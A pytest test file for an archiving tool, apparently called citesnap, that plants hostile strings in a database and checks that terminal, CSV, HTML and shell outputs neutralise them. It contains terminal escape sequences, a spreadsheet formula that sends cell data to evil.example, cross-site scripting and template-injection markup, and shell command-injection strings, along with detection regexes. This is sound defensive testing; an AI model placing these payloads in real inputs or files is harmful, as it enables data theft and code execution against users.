"""An archive whose every text is an attack on whoever reads what citesnap writes: a terminal, a spreadsheet, a browser, a shell."""

from __future__ import annotations

import csv
import json
import os
import re
import shutil
import sqlite3
from contextlib import closing
from pathlib import Path

import pytest

from archive.damaged import columns
from archive.measuring import Used, measured
from browsing.archives import every_kind
from browsing.test_public import NEEDED
from cli.every_command import calls_with

pytestmark = pytest.mark.timeout(600)

MARK = "Attack"
TERMINAL = f"\x1b]0;{MARK}\x07\x1b[2J\x9b31m\u202e\u2066{MARK}\r\n\b\b\x7f"
FORMULA = f'=HYPERLINK("http://evil.example/?"&A1,"{MARK}")'
MARKUP = (
    f"</title></script><script>alert('{MARK}')</script><img src=x onerror=alert(1)>{{{{7*7}}}}]]><svg/onload=alert(2)>"
)
SHELL = f"$(touch {MARK}) `touch {MARK}`; touch {MARK} | touch {MARK} && touch {MARK}\n"
ATTACKS = (TERMINAL, FORMULA, MARKUP, SHELL)
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""What no terminal should get: control characters but line feed and tab, and what turns the direction of writing."""
MADE = ("card", "report")
KEPT = frozenset(
    "url url_hash native_id link short_link short_links data counts fields selectors rows uuid given_url lang version"
    " fingerprint".split()
)
"""What has to be an address, JSON or unique."""


@pytest.fixture(scope="module")
def inside(tmp_path_factory: pytest.TempPathFactory) -> Path:
    inside = tmp_path_factory.mktemp("outputs") / "in"
    inside.mkdir()
    path = every_kind(inside / "archive.db")
    with closing(sqlite3.connect(path)) as db:
        db.execute("pragma ignore_check_constraints = on")
        for table in ("posts", "articles", "citations", "snapshots", "media", "attempts", "feeds", "runs", "verdicts"):
            kinds = {name: kind.lower() for _, name, kind, *_ in db.execute(f"pragma table_info({table})")}
            for column in columns(path, table):
                if kinds[column] == "text" and column not in KEPT and not NEEDED.fullmatch(column):
                    for number, attack in enumerate(ATTACKS):
                        change = f'update {table} set "{column}" = ? where id % {len(ATTACKS)} = {number}'
                        db.execute(f'{change} and "{column}" is not null', [attack])
        db.commit()
    return inside


@pytest.fixture(scope="module")
def said(inside: Path) -> dict[str, Used]:
    """What each command wrote, and its files in the folder."""
    asked = [call for call in calls_with(inside) if call[0] not in ("run", "check", "doctor", "archive", "forget")]
    more = [(name, "--format", kind) for name in ("list", "digest") for kind in ("csv", "json", "html", "markdown")]
    asked += [[name, str(inside / "archive.db"), *options] for name, *options in more]
    with closing(sqlite3.connect(inside / "archive.db")) as db:
        shown = db.execute(
            "select native_id from posts where platform = 'x' and id in (select post_id from snapshots) limit 2"
        )
        for (post,) in shown.fetchall():
            asked += [
                ["export", kind, str(inside / "archive.db"), post, str(inside / f"{kind}-{post}.html")] for kind in MADE
            ]
    environment = {
        **os.environ,
        "HOME": str(inside),
        "HTTPS_PROXY": "http://127.0.0.1:9",
        "HTTP_PROXY": "http://127.0.0.1:9",
    }
    told = measured(asked, inside.parent / "said", environment, inside)
    return {" ".join(part for part in call if "/" not in part): used for call, used in zip(asked, told, strict=True)}


def test_no_terminal_gets_a_control_character(said: dict[str, Used]) -> None:
    assert any(MARK in used.said for used in said.values())
    for name, used in said.items():
        assert "Traceback" not in used.said, (name, used.said)
        if not name.endswith(("csv", "json")):  # which are exact, for programs
            assert not RAW.search(used.said.replace("\r\n", "\n")), (name, RAW.search(used.said), used.said[:2000])


def test_no_cell_is_a_formula(said: dict[str, Used], inside: Path) -> None:
    tables = [(inside / "out.export.csv").read_text("utf-8"), said["list --format csv"].said]
    for table in tables:
        cells = [cell for row in csv.reader(table.splitlines()) for cell in row]
        assert any(MARK in cell for cell in cells)
        assert not [cell for cell in cells if re.match(r"[=+@\t\r]|-(?!\d)", cell)]


def test_no_page_holds_markup_of_others(said: dict[str, Used], inside: Path) -> None:
    pages = {
        str(path): path.read_text("utf-8") for path in inside.rglob("*") if path.suffix in (".html", ".atom", ".xml")
    }
    pages |= {name: used.said for name, used in said.items() if "html" in name and used.said.startswith("<")}
    assert {Path(name).name.partition("-")[0] for name in pages} >= set(MADE)
    assert sum(MARK in page for page in pages.values()) > 10
    for name, page in pages.items():
        assert not re.search(r"<script|<svg/|<img src=x|onerror=alert\(1\)>", page.replace("<script src=", "")), name
        assert "49" not in re.findall(r"\{\{7\*7\}\}|>49<", page), name


def test_json_is_json(said: dict[str, Used], inside: Path) -> None:
    json.loads(said["digest --format json"].said or "null")
    assert json.loads((inside / "out.export.json").read_text("utf-8"))


def test_no_word_becomes_a_command(said: dict[str, Used], inside: Path) -> None:
    assert said
    assert not [path for path in inside.rglob("*") if path.name == MARK]
    shutil.rmtree(inside / "site")
